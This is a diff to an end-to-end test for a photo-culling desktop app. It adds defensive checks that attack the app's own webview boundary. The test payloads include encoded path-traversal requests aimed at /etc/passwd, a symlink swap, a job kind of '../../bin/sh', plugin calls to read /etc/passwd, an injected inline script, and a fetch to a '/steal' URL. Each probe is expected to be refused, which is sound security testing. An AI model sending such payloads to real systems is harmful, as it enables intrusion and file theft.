@@ -2,7 +2,7 @@
 // Fails (exit 1) on the first check that does not hold.
 import { createHash } from "node:crypto";
 import { execFileSync } from "node:child_process";
-import { mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
+import { mkdirSync, readdirSync, readFileSync, renameSync, rmSync, statSync, symlinkSync, writeFileSync } from "node:fs";
 import { join, relative } from "node:path";
 import { Builder, Capabilities, Key } from "selenium-webdriver";
 
@@ -140,25 +140,99 @@ try {
   check(list.length >= 12, "at least 12 photos to cull (near-duplicates and exact copies shown once)");
   await shot("2-lightbox.png");
 
-  // The hma: protocol in the real webview: a preview loads; a real JPEG
-  // outside the root is refused however it is asked for (by the catalogued
-  // link to it, by .. and encoded separators, by absolute path), and so are
-  // unknown ids. Each target is a picture, so a wrongful serve would load.
-  // (Asked of the catalogue: in the lightbox the link may hide behind the
-  // falcon it near-duplicates.)
-  const linked = hma("show", join(PHOTOS, "2024", "link-out.jpg"));
-  check(linked && linked.id > 0, "the link to a photo outside the root is catalogued (its original must still be refused)");
-  const probe = await driver.executeAsyncScript(`
-    const [secret, linkedId, done] = arguments;
-    const base = document.querySelector("#loupe-img").src.split("preview/")[0];
-    const up = "../../../../../../../..";
-    const bad = ["original/" + linkedId, "original/" + up + secret, "original/" + encodeURIComponent(up + secret),
-      "preview/" + encodeURIComponent(up + secret) + "/grid", secret.slice(1), "file" + secret,
-      "original/999999", "preview/0000000000000000/grid", "original/1%2F..%2F2", "preview/../original/" + up + secret];
-    const load = (u) => new Promise((r) => { const i = new Image(); i.onload = () => r(true); i.onerror = () => r(false); i.src = u; });
-    Promise.all([load(document.querySelector("#loupe-img").src), ...bad.map((b) => load(base + b)), load("hma://" + secret)]).then(done);
-  `, SECRET, linked ? linked.id : 0);
-  check(probe[0] === true && probe.slice(1).every((ok) => ok === false), `the protocol serves a preview and refuses ${probe.length - 1} bad requests (${probe.join(" ")})`);
+  // The boundary, attacked from inside the real webview (as a script
+  // injected into the page would): requests of the hma: protocol, commands
+  // invoked with hostile paths and patterns, and what the CSP forbids. Every
+  // protocol target is a picture, so a wrongful serve would load.
+  //
+  // One rule for links: the link to a photo outside the root was not
+  // catalogued; the last scan names it, in words.
+  const problems = hma("status").problems;
+  check(problems.some((p) => p.path.endsWith("link-out.jpg") && /outside this folder; not followed/.test(p.message)), "the link out of the root is not catalogued; the last scan names it as a problem");
+  // A catalogued photo swapped for a link to the outside photo after the
+  // scan: the protocol and drag-out refuse it (restored afterwards).
+  const victim = join(PHOTOS, "2024", "copies", "tanners_ridge copy.jpg");
+  const victimId = hma("show", victim).id;
+  renameSync(victim, victim + ".keep");
+  symlinkSync(SECRET, victim);
+  const secretBefore = sha(SECRET);
+  const probeDir = join(OUT, "..", "e2e-hostile");
+  rmSync(probeDir, { recursive: true, force: true });
+  mkdirSync(probeDir, { recursive: true });
+  let probe;
+  try {
+    probe = await driver.executeAsyncScript(`
+      const [secret, victimId, photos, probeDir, done] = arguments;
+      const img = document.querySelector("#loupe-img").src;
+      const base = img.split("preview/")[0];
+      const hash = img.split("preview/")[1].split("/")[0];
+      const up = "../../../../../../../..";
+      const requests = [
+        "original/" + victimId, "original/" + up + secret, "original/" + encodeURIComponent(up + secret),
+        "preview/" + encodeURIComponent(up + secret) + "/grid", secret.slice(1), "file" + secret,
+        "original/999999", "preview/0000000000000000/grid", "original/1%2F..%2F2", "preview/../original/" + up + secret,
+        "original/%2e%2e/%2e%2e" + secret, "original/..%5c..%5c..%5cetc%5cpasswd", "original/" + victimId + "%00.jpg",
+        "ORIGINAL/" + victimId, "preview/" + hash.toUpperCase() + "/grid", "preview/" + hash + "/original",
+        "original/-1", "original/0x1", "original/" + "9".repeat(30), "%2F" + secret.slice(1),
+        "original/%252e%252e%252f%252e%252e" + secret, "preview/" + hash + "/grid%2F..%2F..%2F" + up + secret,
+      ];
+      const load = (u) => new Promise((r) => { const i = new Image(); i.onload = () => r(true); i.onerror = () => r(false); i.src = u; });
+      const T = window.__TAURI_INTERNALS__;
+      const channel = () => "__CHANNEL__:" + T.transformCallback(() => {});
+      // Each must fail, one after the other (two exports at once would
+      // only be "busy"): [what, call].
+      const calls = [
+        ["export pattern ../{name}", () => T.invoke("run_job", { kind: "export", options: { dest: probeDir + "/a", pattern: "../{name}" }, onEvent: channel() })],
+        ["export pattern {YYYY}/{name}", () => T.invoke("run_job", { kind: "export", options: { dest: probeDir + "/b", pattern: "{YYYY}/{name}" }, onEvent: channel() })],
+        ["export pattern ..\\{name}", () => T.invoke("run_job", { kind: "export", options: { dest: probeDir + "/c", pattern: "..\\{name}" }, onEvent: channel() })],
+        ["export pattern /tmp/{name}", () => T.invoke("run_job", { kind: "export", options: { dest: probeDir + "/d", pattern: "/tmp/{name}" }, onEvent: channel() })],
+        ["export into the photo folder", () => T.invoke("run_job", { kind: "export", options: { dest: photos + "/2024", pattern: "{name}" }, onEvent: channel() })],
+        ["export over a file", () => T.invoke("run_job", { kind: "export", options: { dest: secret, pattern: "{name}" }, onEvent: channel() })],
+        ["a job that does not exist", () => T.invoke("run_job", { kind: "../../bin/sh", options: {}, onEvent: channel() })],
+        ["a photo as the catalogue", () => T.invoke("open_catalog", { url: "sqlite://" + secret })],
+        ["the whole disk as a folder", () => T.invoke("add_root", { path: "/", name: null })],
+        ["drag of the swapped photo", () => T.invoke("drag_out", { fileIds: [victimId] })],
+        ["a plugin the app does not have (fs)", () => T.invoke("plugin:fs|read_file", { path: "/etc/passwd" })],
+        ["a dialog the app may not open (save)", () => T.invoke("plugin:dialog|save", { options: {} })],
+        ["a shell the app does not have", () => T.invoke("plugin:shell|open", { path: "file:///etc/passwd" })],
+      ];
+      const run = async () => {
+        const out = [];
+        for (const [what, call] of calls) {
+          out.push(await call().then((v) => ({ what, allowed: JSON.stringify(v).slice(0, 120) }), (e) => ({ what, code: e && e.code, error: String((e && e.message) || e).slice(0, 160) })));
+        }
+        return out;
+      };
+      // The CSP: no inline script, no connection out, no file: pictures.
+      const violations = [];
+      document.addEventListener("securitypolicyviolation", (e) => violations.push(e.violatedDirective));
+      const s = document.createElement("script");
+      s.textContent = "window.__injected = true";
+      document.body.append(s);
+      const out = fetch("http://127.0.0.1:9/steal?x=1").then(() => true, () => false);
+      const fileImg = load("file://" + secret);
+      Promise.all([load(img), Promise.all(requests.map((b) => load(base + b))), run(), out, fileImg]).then(
+        ([good, served, answers, fetched, file]) => setTimeout(() => done({ good, requests, served, answers, fetched, file,
+          injected: window.__injected === true, violations }), 300));
+    `, SECRET, victimId, PHOTOS, probeDir);
+  } finally {
+    rmSync(victim);
+    renameSync(victim + ".keep", victim);
+  }
+  check(probe.good === true, "the protocol serves a preview");
+  const wrongly = probe.requests.filter((_, i) => probe.served[i]);
+  check(probe.requests.length >= 20 && wrongly.length === 0, `the protocol refuses ${probe.requests.length} hostile requests (${wrongly.length ? "served: " + wrongly.join(" ") : "none served"})`);
+  for (const a of probe.answers) console.log(`hostile command: ${a.what} → ${a.allowed ? "ALLOWED " + a.allowed : `${a.code ?? "-"}: ${a.error}`}`);
+  const allowed = probe.answers.filter((a) => a.allowed !== undefined);
+  check(allowed.length === 0, `${probe.answers.length} hostile commands, paths and patterns are refused (${allowed.map((a) => a.what).join("; ") || "none allowed"})`);
+  check(probe.answers.filter((a) => a.what.startsWith("export")).every((a) => a.code === "invalid" || a.code === "io"), "each hostile export is refused for what it asks (not because another job runs)");
+  console.log(`CSP violations seen: ${probe.violations.join(", ")}`);
+  check(!probe.injected && probe.violations.some((v) => v.startsWith("script-src")), "an injected inline script does not run (CSP script-src)");
+  check(!probe.fetched && probe.violations.includes("connect-src"), "a connection out of the app is refused (CSP connect-src)");
+  check(!probe.file, "a file: picture does not load");
+  check(readdirSync(probeDir).length === 0, "nothing was written by the refused exports");
+  check(sha(SECRET) === secretBefore, "the outside photo named as a catalogue is unchanged");
+  check(hma("status").roots === 1, "no root was added");
   await js(() => (document.activeElement && document.activeElement.blur(), true));
 
   // Cull 12 photos with the keys (auto-advance on): picks, rejects, stars, a label, undo.
@@ -391,6 +465,9 @@ try {
   await click("#open-catalog");
   await until(() => document.querySelector("#catalog-info").textContent.startsWith("mariadb"), "the switch to MariaDB");
   check((await js(() => document.querySelector("#counts").textContent)).startsWith("0 files"), "the MariaDB catalogue starts empty");
+  const password = decodeURIComponent(new URL(MYSQL).password);
+  const infoLine = await js(() => document.querySelector("#catalog-info").textContent);
+  check(password.length > 0 && !(await js((pw) => document.documentElement.outerHTML.includes(pw) || document.querySelector("#catalog-url").value.includes(pw), password)), `the MariaDB password is not on the page once the catalogue is open (${infoLine})`);
   await setValue("#root-path", PHOTOS);
   await click("#add-root");
   await until(() => document.querySelector("#library").dataset.ready === "true", "scan and analysis on MariaDB", 300000);
